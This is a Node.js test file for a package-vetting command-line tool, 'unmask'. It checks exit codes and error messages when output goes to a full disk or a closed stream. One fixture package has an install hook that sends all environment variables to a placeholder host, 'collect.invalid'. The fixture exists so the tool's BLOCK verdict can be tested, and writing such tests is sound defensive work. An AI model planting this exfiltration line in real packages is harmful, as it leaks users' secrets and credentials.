import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { makeNpmHome } from '../npm-home.ts';
import { BIN } from './run-unmask.ts';

const FULL = '/dev/full';

describe('an answer that cannot be written', { skip: existsSync(FULL) ? false : `there is no ${FULL}` }, () => {
  const home = makeNpmHome();
  /** Runs in a shell, which alone can close a stream or lead it to a device. */
  const run = (name: string, led: string): { code: number | null; out: string; err: string } => {
    const command = `exec "${process.execPath}" "${BIN}" vet ./${name} ${led}`;
    const { status, stdout, stderr } = spawnSync('/bin/sh', ['-c', command], { cwd: home.cwd, env: home.env, encoding: 'utf8' });
    return { code: status, out: stdout, err: stderr };
  };

  before(() => {
    for (const [name, text] of [
      ['good', 'module.exports = 1;\n'],
      ['bad', `require('https').request({ host: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env));\n`],
    ] as const) {
      mkdirSync(join(home.cwd, name));
      writeFileSync(
        join(home.cwd, name, 'package.json'),
        JSON.stringify({ name, version: '1.0.0', scripts: { install: 'node index.js' } }),
      );
      writeFileSync(join(home.cwd, name, 'index.js'), text);
    }
  });
  after(() => home.remove());

  it('is no answer: 2, whatever the verdict was, and whose fault it is', () => {
    for (const name of ['good', 'bad']) {
      const { code, err } = run(name, `>${FULL}`);
      assert.equal(code, 2, name);
      assert.match(err, /^unmask: Standard output could not be written: there is no room left on the disk \(ENOSPC\)\n/);
      assert.doesNotMatch(err, /mistake in Unmask/);
      assert.equal(run(name, `>${FULL} 2>${FULL}`).code, 2, name);
    }
  });

  it('but words beside the answer may be lost: answer and code stand', () => {
    for (const [name, code, says] of [
      ['good', 0, /^ALLOW/],
      ['bad', 1, /^BLOCK/],
    ] as const) {
      const ran = run(name, `--verbose 2>${FULL}`);
      assert.equal(ran.code, code);
      assert.match(ran.out, says);
    }
  });

  it('and whoever closes the stream asks for the code alone, which is that of the verdict', () => {
    assert.deepEqual([run('good', '>&-').code, run('bad', '>&-').code, run('bad', '>&- 2>&-').code], [0, 1, 1]);
  });
});
